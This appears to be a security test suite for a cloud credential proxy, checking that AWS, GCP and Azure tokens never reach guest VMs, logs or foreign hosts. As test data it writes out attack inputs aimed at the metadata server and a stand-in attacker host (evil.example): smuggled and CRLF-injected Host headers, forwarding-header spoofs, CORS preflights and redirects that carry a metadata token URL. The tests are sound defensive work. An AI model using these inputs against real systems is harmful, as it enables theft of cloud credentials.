/** Attacks on identities at clouds, through the real proxy (docs/concepts/threat-model.md). */
import { assert, assertEquals } from "@std/assert";
import { packAzureSecret } from "../../../lib/credential/cloud/azure_key.ts";
import { type CredentialBroker, packRoleKeys } from "../../../lib/credential/mod.ts";
import { METADATA_ALIAS } from "../../../lib/base/address/mod.ts";
import { newCredential } from "../../../lib/service/contract/credentials.ts";
import { AWS_SECRET, librarySigner } from "../../helper/aws.ts";
import { type World, world } from "../../helper/credential.ts";
import { ADDRESS, TestNet } from "../../helper/net.ts";
import { fixedUpstream } from "../../helper/net_client.ts";

const HOST = "s3.us-east-1.amazonaws.com";
const ROLE = "arn:aws:iam::123456789012:role/agent";
const SERVER = "169.254.169.254";
const HOUR = 3_600_000;
const GOOGLE_TOKEN = "ya29.c." + "a1B2".repeat(200);
const AZURE_TOKEN = "eyJ0.a-token-of-an-application-at-azure";

/** Keys of the role, as STS gives them one after another. */
const roleKeys = (name: string) => ({
  id: `ASIA${name.toUpperCase().padEnd(16, "Q")}`,
  secret: `${name}/secret+of-the-role`.padEnd(40, "s"),
  token: `${name}-session-token/`.repeat(12),
});
const FIRST = roleKeys("first");
const SECOND = roleKeys("second");
const textOf = ({ id, secret, token }: typeof FIRST) => `${id}:${secret}:${token}`;

/** A request signed by Amazon's library with the keys that a VM has, as lines. */
async function signedBy(
  broker: CredentialBroker,
  { host = HOST, path = "/bucket/key", method = "GET", token = undefined as string | undefined } = {},
): Promise<string> {
  const { AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: secret } = broker.guestEnv();
  const request = { method, protocol: "https:", hostname: host, path, query: {}, headers: { host } };
  const keys = { id, secret, ...(token !== undefined && { token }) };
  const signer = librarySigner(keys, { service: "s3", region: "us-east-1" });
  const { headers } = await signer.sign(request as never) as unknown as { headers: Record<string, string> };
  return Object.entries(headers).filter(([name]) => name !== "host")
    .map(([name, value]) => `${name}: ${value}\r\n`).join("");
}

Deno.test(
  "keys of a role are in no VM, and a signature with its placeholder is good in this VM, for this request, while they last",
  world([], async ({ store, open }) => {
    const origin = { cloud: { kind: "aws" as const, role_arn: ROLE, region: "us-east-1" } };
    const secret = packRoleKeys(AWS_SECRET, ROLE);
    const [{ ref }] = await store.add([newCredential({ provider: "aws", secret, origin })]);
    const [broker, other, foreign] = [
      await open(["aws"]),
      await open(["aws"], "vm-b"),
      await open(["github"], "vm-c"),
    ];
    const give = (keys: typeof FIRST, expires_at = Date.now() + HOUR) =>
      Promise.all(
        [broker, other, foreign].map((each) => each.provide({ [ref]: { secret: textOf(keys), expires_at } })),
      );
    await give(FIRST);
    const received: string[] = [];
    // As S3 does, the server repeats what was signed in its error: the head with the session token.
    const send = async (by: CredentialBroker, fields: string, host = HOST, path = "/bucket/key") => {
      let target = { hostname: "", port: 0 };
      await using net = await TestNet.open({ broker: by, target: () => target });
      const echo = `${FIRST.token} ${SECOND.token} ${FIRST.secret}`;
      const upstream = fixedUpstream(
        `HTTP/1.1 400 Bad Request\r\nx-echo: ${SECOND.token}\r\ncontent-length: ${echo.length}\r\n\r\n${echo}`,
        await net.leaf(host),
      );
      target = upstream.target;
      const client = await net.tls(host);
      const { status, body, headers } = await client.ask(
        `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${fields}\r\n`,
      );
      client.close();
      upstream.close();
      received.push(...upstream.requests);
      const seen = [body, ...headers.values(), JSON.stringify(net.gate.entries)].join("\n");
      return { status, seen };
    };
    const fields = await signedBy(broker);
    const first = await send(broker, fields);
    assertEquals(first.status, 400);
    assert(received[0].includes(`Credential=${FIRST.id}/`) && received[0].includes(FIRST.token));
    for (const text of [FIRST.token, FIRST.secret]) {
      assert(!first.seen.includes(text), "a VM or the record has it");
    }

    // The keys change, and the placeholder stays; the former ones are found too.
    await give(SECOND);
    const second = await send(broker, await signedBy(broker));
    assertEquals(second.status, 400);
    assert(received[1].includes(SECOND.id) && !received[1].includes(FIRST.token));
    for (const { token, secret } of [FIRST, SECOND]) {
      assert(!second.seen.includes(token) && !second.seen.includes(secret), "a VM or the record has it");
    }
    // A session token of the guest's own does not travel with the host's keys.
    const own = "a-session-token-of-another-account".repeat(4);
    assertEquals((await send(broker, await signedBy(broker, { token: own }))).status, 400);
    assert(!received[2].includes(own) && received[2].includes(SECOND.token));

    const refused: [CredentialBroker, string, string?, string?][] = [
      [other, fields],
      [foreign, fields],
      [broker, fields, HOST, "/bucket/other"],
      [broker, fields, "s3.us-west-2.amazonaws.com"],
      [broker, fields, "evil.example"],
      [broker, await signedBy(broker, { host: "evil.example" }), "evil.example"],
      [
        broker,
        await signedBy(broker, { host: "mine.execute-api.evil.example" }),
        "mine.execute-api.evil.example",
      ],
      [broker, `authorization: Bearer ${ref}\r\n`],
      [broker, `x-amz-security-token: ${ref}\r\n`],
      [broker, `authorization: Bearer ${ref}\r\n`, "evil.example"],
    ];
    const count = received.length;
    for (const [by, each, host, path] of refused) {
      const { status } = await send(by, each, host, path);
      assertEquals(status, 403, `${host} ${path} ${each}`);
    }
    assertEquals(received.length, count);
    await give(SECOND, Date.now() - 1);
    assertEquals(
      (await send(broker, await signedBy(broker))).status,
      403,
      "keys after their end are not used",
    );
    assertEquals(received.length, count);
  }),
);

/** Identities at both clouds, with tokens that the host has obtained. */
async function identities(
  { store, open }: World,
): Promise<{ gcp: string; azure: string; broker: CredentialBroker }> {
  const google = {
    kind: "gcp" as const,
    from: "service_account" as const,
    email: "robot@my-project.iam.gserviceaccount.com",
    project: "my-project",
    scopes: ["https://www.googleapis.com/auth/cloud-platform"],
  };
  const application = {
    kind: "azure" as const,
    tenant: "contoso.example",
    client_id: "99999999-8888-7777-6666-555555555555",
    resource: "vault",
  };
  const [gcp, azure] = await store.add([
    newCredential({ provider: "gcp", secret: '{"key":"of-an-account"}', origin: { cloud: google } }),
    newCredential({
      provider: "azure",
      secret: packAzureSecret("a~client~secret~of~azure", "vault"),
      origin: { cloud: application },
    }),
  ]);
  const broker = await open(["gcp", "azure"]);
  await give(broker, gcp.ref, azure.ref);
  return { gcp: gcp.ref, azure: azure.ref, broker };
}

const give = (broker: CredentialBroker, gcp: string, azure: string) =>
  broker.provide({
    [gcp]: { secret: GOOGLE_TOKEN, expires_at: Date.now() + HOUR },
    [azure]: { secret: AZURE_TOKEN, expires_at: Date.now() + HOUR },
  });

const TOKEN = "/computeMetadata/v1/instance/service-accounts/default/token";
const MSI = "/msi/token?api-version=2019-08-01&resource=https%3A%2F%2Fvault.azure.net";
const FLAVOR = "Metadata-Flavor: Google";
const APP = "X-IDENTITY-HEADER: sbx";

Deno.test(
  "the metadata server answers no request that a page, a proxy or another name could have made",
  world([], async (given) => {
    const { gcp, azure, broker } = await identities(given);
    await using net = await TestNet.open({ broker });
    const ask = async (
      target: string,
      fields: string[],
      { host = `Host: ${SERVER}`, address = SERVER, method = "GET" } = {},
    ) => {
      const client = await net.client(80, address);
      const answer = await client.ask(
        `${method} ${target} HTTP/1.1\r\n${
          [host, ...fields].filter((line) => line !== "").join("\r\n")
        }\r\n\r\n`,
      );
      client.close();
      return answer;
    };
    for (const [target, field] of [[TOKEN, FLAVOR], [MSI, APP]]) {
      assertEquals((await ask(target, [field])).status, 200, target);
      const refused: [string, string[], Parameters<typeof ask>[2]?][] = [
        // A page in a browser of the VM: a preflight, a form, a script of a page
        // by a name that now leads here.
        [target, ["Origin: https://evil.example", `Access-Control-Request-Headers: ${field.split(":")[0]}`], {
          method: "OPTIONS",
        }],
        [target, [field, "Content-Length: 0"], { method: "POST" }],
        [target, [field, "Content-Length: 0"], { method: "PUT" }],
        [target, [field], { host: "Host: evil.example" }],
        [target, [field], { host: `Host: ${SERVER}.evil.example` }],
        [target, [field], { host: "Host: metadata.google.internal.evil.example" }],
        [target, [field], { host: "Host: localhost" }],
        [target, [field], { host: `Host: evil.example@${SERVER}` }],
        [target, [field], { host: `Host: ${SERVER}\r\nHost: evil.example` }],
        [target, [field], { host: "" }],
        [`http://evil.example${target}`, [field]],
        // A program of the VM that sends on what others ask of it.
        [target, [field, "X-Forwarded-For: 10.0.0.1"]],
        [target, [field, "x-forwarded-for:"]],
        [target, [field, "Forwarded: for=10.0.0.1;proto=https"]],
        // A program that was led here by a redirect, or by an address of a
        // person: it sends fields of its own.
        [target, ["Accept: */*", "User-Agent: curl/8.5.0", "Referer: https://evil.example/"]],
        [target, [field.replace(": ", ": x")]],
        // Another place.
        [target, [field], { address: METADATA_ALIAS, host: "Host: evil.example" }],
        [target, [field], { address: METADATA_ALIAS }],
        [target, [field], { address: "127.0.0.1" }],
        [target, [field], { address: ADDRESS }],
      ];
      for (const [path, fields, options] of refused) {
        const { status, body, headers } = await ask(path, fields, options);
        const what = `${path} ${fields} ${JSON.stringify(options)}`;
        assert(status >= 400, `${what}: ${status}`);
        assert(![...headers.keys()].some((name) => name.startsWith("access-control-")), what);
        for (const text of [gcp, azure, GOOGLE_TOKEN, AZURE_TOKEN]) assert(!body.includes(text), what);
      }
    }
    const record = JSON.stringify(net.gate.entries);
    for (const token of [GOOGLE_TOKEN, AZURE_TOKEN]) assert(!record.includes(token));
  }),
);

Deno.test(
  "a token of the metadata goes to no foreign host, also where a redirect of the service leads, nor from another VM",
  world([], async (given) => {
    const { gcp, azure, broker } = await identities(given);
    const other = await given.open(["github"], "vm-b");
    await give(other, gcp, azure);
    const received: [string, string][] = [];
    const send = async (by: CredentialBroker, host: string, ref: string, path = "/") => {
      let target = { hostname: "", port: 0 };
      await using net = await TestNet.open({ broker: by, target: () => target });
      const upstream = fixedUpstream(
        `HTTP/1.1 302 Found\r\nlocation: https://evil.example/?then=http://${SERVER}${TOKEN}\r\ncontent-length: 0\r\n\r\n`,
        await net.leaf(host),
      );
      target = upstream.target;
      const client = await net.tls(host);
      const { status, headers } = await client.ask(
        `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${ref}\r\n\r\n`,
      );
      client.close();
      upstream.close();
      received.push(...upstream.requests.map((text): [string, string] => [host, text]));
      return { status, location: headers.get("location") };
    };
    const google = "storage.googleapis.com";
    const vault = "mine.vault.azure.net";
    for (const [host, ref, token] of [[google, gcp, GOOGLE_TOKEN], [vault, azure, AZURE_TOKEN]]) {
      const { status, location } = await send(broker, host, ref);
      assertEquals(status, 302);
      assert(received.at(-1)![1].includes(token));
      // The guest follows with the ref that it has.
      assertEquals((await send(broker, new URL(location!).host, ref)).status, 403);
    }
    assertEquals(
      received.map(([host]) => host),
      [google, vault],
      "the host follows no redirect of a guest's request",
    );
    for (
      const [by, host, ref, path] of [
        [other, google, gcp],
        [other, vault, azure],
        [broker, vault, gcp],
        [broker, google, azure],
        [broker, "management.azure.com", azure],
        [broker, "oauth2.googleapis.com", gcp, "/tokeninfo"],
        [broker, "iam.googleapis.com", gcp, "/v1/projects/-/serviceAccounts/a/keys"],
        [broker, `${google}.evil.example`, gcp],
        [broker, "vault.azure.net.evil.example", azure],
      ] as [CredentialBroker, string, string, string?][]
    ) assertEquals((await send(by, host, ref, path)).status, 403, `${host}${path ?? ""}`);
    assertEquals(received.length, 2);
  }),
);
